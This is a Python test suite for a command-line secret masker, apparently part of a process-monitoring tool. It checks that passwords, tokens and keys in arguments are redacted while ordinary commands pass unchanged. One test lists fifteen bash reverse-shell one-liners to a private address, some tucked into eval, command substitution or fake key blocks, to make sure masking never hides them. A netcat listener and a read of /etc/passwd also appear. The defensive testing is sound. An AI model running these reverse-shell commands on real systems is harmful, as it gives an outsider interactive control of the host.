from __future__ import annotations

import re
import shlex
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sentinair.detect.secrets import Masker
from sentinair.model.process import Parent, Process

mask_argv = Masker().argv
S = "hunter2Zx"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEhunter2Zx\nAAAA\n-----END RSA PRIVATE KEY-----"

# Each line is a command as typed; the argument vector is what a shell makes of it.  The secret is S in all.
COMMANDS = [
    # long options
    f"app --password={S}",
    f"app --password {S}",
    f"app --db-password {S} --verbose",
    f"app --passphrase {S}",
    f"wget --password={S} http://host/x",
    f"wget --http-password {S} http://host/x",
    f"gpg --batch --passphrase {S} -d f",
    f"vault --token {S}",
    f"app --api-key={S}",
    f"app --client-secret {S}",
    f"keytool -storepass {S} -list",
    f"java -jar x.jar -password {S}",
    f"xtool --access-token={S}",
    # letters of programs that mean a secret by them
    f"mysql -uroot -p{S} db",
    f"mysqldump -p{S} --all-databases",
    f"/usr/bin/mariadb -u root -p{S}",
    f"sudo mysql -p{S}",
    f"sshpass -p {S} ssh user@host",
    f"sshpass -p{S} ssh user@host",
    f"7z a -p{S} out.7z f",
    f"unzip -P {S} f.zip",
    f"redis-cli -h h -a {S} ping",
    f"curl -u admin:{S} https://host/",
    f"curl -uadmin:{S} https://host/",
    f"curl --user admin:{S} https://host/",
    f"smbclient //h/s -U admin%{S}",
    f"ldapsearch -x -D cn=a -w {S} -b dc=x",
    f"docker login -u me -p {S} registry",
    f"useradd -p {S} bob",
    f"sqlplus scott/{S}@db",
    f"net user bob {S} /add",
    f"htpasswd -b .htpasswd bob {S}",
    f"rabbitmqctl add_user bob {S}",
    f"openssl enc -aes-256-cbc -pass pass:{S}",
    f"openssl rsa -passin pass:{S} -in k",
    f"aws configure set aws_secret_access_key {S}",
    # URLs
    f"git clone https://bob:{S}@host/x.git",
    f"psql postgresql://u:{S}@h/db",
    f"curl 'https://h/x?token={S}&y=1'",
    # headers
    f"curl -H 'Authorization: Bearer {S}' https://h",
    f"curl -H 'authorization: Basic {S}=' https://h",
    f"curl -H 'X-Api-Key: {S}' https://h",
    f"curl -H 'Cookie: session={S}; a={S}' https://h",
    f"curl '-HCookie: session={S}' https://h",
    f"curl '-HAuthorization: Bearer {S}' https://h",
    f"curl -b session={S} https://h",
    f"curl --cookie session={S} https://h",
    # assignments
    f"env PASSWORD={S} app",
    f"env 'DB_PASSWORD={S} with spaces {S}' app",
    f"docker run -e MYSQL_ROOT_PASSWORD={S} mysql",
    f"sh -c 'PGPASSWORD={S} psql db'",
    f"app token={S}",
    f"mount -o username=u,password={S} //h/s /mnt",
    # structured text
    f"""ansible-playbook x.yml --extra-vars '{{"db_password":"{S}"}}'""",
    f"ansible-playbook x.yml --extra-vars 'db_password={S} x=1'",
    f"""curl -d '{{"user":"a","secret": "{S}"}}' https://h""",
    # inside a shell's argument
    f"sh -c 'mysql -p{S} db'",
    f'bash -c "cd /x && app --password {S} | tee log"',
    f"bash -c \"sh -c 'redis-cli -a {S}'\"",
    f"sh -c 'echo {S} | sudo -S id'",
    f"sh -c 'echo \"bob:{S}\" | chpasswd'",
    f"bash -c 'sudo -S id <<< {S}'",
    f"sh -c 'printf {S} | docker login -u x --password-stdin'",
    f"sh -c \"curl -H 'X-Auth-Token: {S}' h\"",
]  # fmt: skip
SHAPES = [
    ("aws", "AKIAIOSFODNN7EXAMPLE"),
    ("github", "ghp_16C7e42F292c6912E7710c838347Ae178B4a"),
    ("slack", "xoxb-1234567890-abcdefghij"),
    ("jwt", JWT),
    ("pem", PEM),
    ("stripe", "sk_live_4eC39HqLyjWDarjtT1zdp7dc"),
    ("gitlab", "glpat-ABCDEFGHIJKLMNOPQRST"),
    ("google", "AIzaSyA1234567890abcdefghijklmnopqrstuv"),
]
PLAIN = [
    "mkdir -p x",
    "ssh -p 22 host",
    "cp -p a b",
    "nc -p 4444 host 80",
    "nc -lvp 4444",
    "rsync -a --password-file=/etc/rsync.pass a b",
    "docker run -p 3306:3306 mysql",
    "mysql -p db",
    "mysql -u root -p",
    "git clone git@host:x.git",
    "git clone ssh://git@host/x.git",
    "openssl rsa -passin file:/root/pass -in k",
    "openssl rsa -passin env:VAR -in k",
    "passwd bob",
    "ssh -i /root/.ssh/id_rsa -o PasswordAuthentication=no host",
    "systemd-ask-password",
    "bash -c 'cd /tmp; PWD=/tmp ls'",
    "tar -cpf x.tar /etc/passwd",
    "cat /etc/passwd",
    "curl -u admin https://host/",
    "useradd -m bob",
    "apt-key add key.asc",
    "app --no-password x",
    "make -p all",
    "find / -name password.txt",
    "curl http://host:8080/x",
]


def _argv(command: str) -> tuple[bytes, ...]:
    return tuple(word.encode() for word in shlex.split(command))


@pytest.mark.parametrize("command", COMMANDS)
def test_a_secret_in_a_command_line_is_masked(command: str) -> None:
    argv = _argv(command)
    masked, changed = mask_argv(argv)
    assert changed
    assert S.encode() not in b" ".join(masked)
    assert b"***" in b" ".join(masked)
    assert len(masked) == len(argv)


@pytest.mark.parametrize("command", COMMANDS)
def test_what_is_no_secret_survives_the_masking(command: str) -> None:
    masked, _ = mask_argv(_argv(command))
    assert masked[0] == _argv(command)[0]
    program = re.search(r"(mysql|curl|docker|sudo|psql|redis-cli|app)", command)
    if program is not None:
        assert program.group().encode() in b" ".join(masked)


@pytest.mark.parametrize(("name", "token"), SHAPES)
def test_a_token_is_known_by_its_shape_wherever_it_stands(name: str, token: str) -> None:
    for argv in ((b"app", token.encode()), (b"sh", b"-c", b"app '" + token.encode() + b"' x")):
        masked, changed = mask_argv(argv)
        assert changed, name
        assert token[12:].encode() not in b" ".join(masked)


@pytest.mark.parametrize("command", PLAIN)
def test_an_ordinary_command_line_stays_as_it_is(command: str) -> None:
    argv = _argv(command)
    assert mask_argv(argv) == (argv, False)


@pytest.mark.parametrize("command", COMMANDS)
def test_masking_twice_is_masking_once(command: str) -> None:
    once, _ = mask_argv(_argv(command))
    assert mask_argv(once) == (once, False)


def test_a_hosts_own_option_names_carry_secrets_too() -> None:
    masker = Masker(("--unlock-code",))
    assert masker.argv((b"app", b"--unlock-code", b"4711")) == (
        (b"app", b"--unlock-code", b"***"),
        True,
    )
    assert masker.argv((b"app", b"--unlock-code=4711"))[0] == (b"app", b"--unlock-code=***")
    assert mask_argv((b"app", b"--unlock-code", b"4711"))[1] is False


def test_the_parents_command_lines_are_masked_and_the_flag_says_so() -> None:
    parent = Parent(1, 2, b"/bin/sh", (b"sh", b"-c", b"mysql -phunter2Zx db"))
    plain = Parent(3, 4, b"/sbin/init", None)
    process = Process(pid=9, argv=(b"mysql", b"db"), parents=(parent, plain))
    masked = Masker().process(process)
    assert masked.masked
    assert masked.argv == process.argv
    assert masked.parents[0].argv == (b"sh", b"-c", b"mysql -p*** db")
    assert masked.parents[1] is plain


def test_a_process_without_secrets_is_handed_back_untouched() -> None:
    process = Process(pid=9, argv=(b"ls",), parents=(Parent(1, 2, b"/sbin/init", (b"init",)),))
    assert Masker().process(process) is process
    assert Masker().process(Process(pid=1)) == Process(pid=1)


def test_a_repeated_plain_command_is_remembered_and_one_with_a_secret_never() -> None:
    masker = Masker()
    masker.argv((b"ls", b"-l"))
    masker.argv((b"app", b"--password", b"hunter2Zx"))
    masker.argv((b"echo", b"x" * 5000))
    assert masker._plain == {(b"ls", b"-l")}
    for number in range(1100):
        masker.argv((b"touch", str(number).encode()))
    assert len(masker._plain) <= 1024


@given(st.lists(st.binary(max_size=60), max_size=6))
def test_any_bytes_can_be_masked(words: list[bytes]) -> None:
    masked, changed = mask_argv(tuple(words))
    assert len(masked) == len(words)
    assert changed == (masked != tuple(words))


@given(st.text("abc -'\"|;&<>=:/@%pPu.$", max_size=80))
def test_any_shell_text_can_be_masked(text: str) -> None:
    masked, _ = mask_argv((b"sh", b"-c", b"mysql " + text.encode()))
    assert mask_argv(masked)[0] == masked


@pytest.mark.parametrize(
    "piece",
    [
        b"a",
        b"-",
        b"eyJ",
        b"password",
        b"://",
        b"echo ",
        b"'",
        b'"',
        b"x:",
        b"sudo ",
        b"=\\",
        b"A\n",
        b"-----BEGIN PRIVATE KEY----- ",
    ],
)
def test_a_hostile_argument_costs_no_more_than_its_length(piece: bytes) -> None:
    argv = (b"sh", b"-c", b"password " + piece * (100_000 // len(piece)))
    began = time.process_time()
    mask_argv(argv)
    assert time.process_time() - began < 1.5


@pytest.mark.parametrize(
    "command",
    [
        "bash -c 'TOKEN=x; bash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
        "bash -c ': Cookie: ; bash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
        "bash -c ': password: ;bash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
        "bash -c ': --password; bash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
        "bash -c ': https://a:b@c; bash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
        "ruby -e 'token=1;`bash -i >& /dev/tcp/10.0.0.1/4 0>&1`'",
        "env TOKEN=x bash -c 'secret=1 bash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
        """bash -c 'TOKEN="bash -i >& /dev/tcp/10.0.0.1/4 0>&1"; eval $TOKEN'""",
        """bash -c 'PASSWORD="$(bash -i >& /dev/tcp/10.0.0.1/4 0>&1)"'""",
        """bash -c 'curl -H "Cookie: $(bash -i >& /dev/tcp/10.0.0.1/4 0>&1)"'""",
        """bash -c 'mysql --password "$(bash -i >& /dev/tcp/10.0.0.1/4 0>&1)"'""",
        """bash -c 'openssl x <<< "$(bash -i >& /dev/tcp/10.0.0.1/4 0>&1)"'""",
        "bash -c '#-----BEGIN PRIVATE KEY-----\nbash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
        "bash -c '#-----BEGIN PRIVATE KEY-----\nbash -i >& /dev/tcp/10.0.0.1/4\n#-----END PRIVATE KEY-----'",
        "ssh host 'TOKEN=x; bash -i >& /dev/tcp/10.0.0.1/4 0>&1'",
    ],
)
def test_a_word_that_looks_like_a_secret_does_not_hide_a_script(command: str) -> None:
    masked, _ = mask_argv(_argv(command))
    assert b">& /dev/tcp/10.0.0.1/4" in b" ".join(masked)


@pytest.mark.parametrize(
    "key",
    [
        "-----BEGIN PRIVATE KEY-----\n{0}\n-----END PRIVATE KEY-----",
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n{0}\nAbc=\n"
        "-----END RSA PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\\n{0}\\nAbc=\\n-----END PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\n{0}\n{0}",
    ],
)
def test_the_lines_of_a_key_are_masked_whole_or_cut_off(key: str) -> None:
    line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
    masked, _ = mask_argv((b"tool", b"--pem", key.format(line).encode()))
    assert b"MIIE" not in b" ".join(masked)
    assert b"Abc" not in b" ".join(masked)


@pytest.mark.parametrize("word", [b"curl", b"mysql -px", b"sqlplus", b"openssl", b"a", b"-p"])
def test_the_name_of_a_program_again_and_again_costs_no_more_than_its_length(word: bytes) -> None:
    words = word.split() * (32_768 // (len(word) + 1))
    for argv in ((b"sh", b"passwd", *words), (b"sh", b"-c", b": passwd " + b" ".join(words))):
        began = time.process_time()
        mask_argv(argv)
        assert time.process_time() - began < 0.7


def test_a_program_behind_its_wrappers_is_known_and_a_second_one_too() -> None:
    argv = b"sudo env sshpass -p geheim docker login -p auch mysql -pdrei".split()
    masked, _ = mask_argv(tuple(argv))
    assert masked == tuple(b"sudo env sshpass -p *** docker login -p *** mysql -p***".split())
